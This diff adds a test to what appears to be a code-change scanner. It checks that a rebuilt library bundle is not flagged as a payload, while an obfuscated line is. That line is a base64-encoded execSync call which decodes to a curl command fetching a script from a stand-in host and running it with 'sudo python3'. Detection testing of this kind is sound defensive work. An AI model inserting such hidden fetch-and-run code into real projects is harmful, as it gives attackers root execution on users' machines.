@@ -340,6 +340,21 @@ describe('generated-code-edited: a bundle the repository compares with a rebuild
   });
 });
 
+describe('generated-code-edited: what a rebuilt bundle carries is not a payload (tj-actions/changed-files #2769, create-pull-request #2878)', () => {
+  it('keeps payload findings on a bundle read as code, not the logic rules a rebuild of its libraries trips, nor the claim', () => {
+    const library = makeFile('dist/index.js', {
+      patch: hunk(
+        ['        if (usingSsl && this._ignoreSslError) {', '            agent.options = Object.assign(agent.options || {}, {', '                rejectUnauthorized: false', '            });', '        }'],
+        ['    canHandleAuthentication() {', '        return false;', '    }', "        if (!this.isAuthorized(req)) throw new Error('unauthorized');"],
+      ),
+    });
+    const ids = scan([library, makeFile('README.md', { patch: hunk(['returning **relative paths** from the project root.']) })], 'chore: update README.md').map((f) => f.id);
+    expect(ids).toEqual(['generated-code-edited']);
+    const payload = makeFile('dist/index.js', { patch: hunk(["  execSync(Buffer.from('Y3VybCAtc1NmTCBodHRwczovL2V4YW1wbGUuaW52YWxpZC9tLnB5IHwgc3VkbyBweXRob24z', 'base64').toString('utf-8'));"]) });
+    expect(scan([payload], 'chore: update README.md').map((f) => f.id)).toContain('obfuscated-code');
+  });
+});
+
 describe('docs/findings.md', () => {
   it('documents exactly the ids these tests cover, in its "Code changes" section', async () => {
     const { readFile } = await import('node:fs/promises');
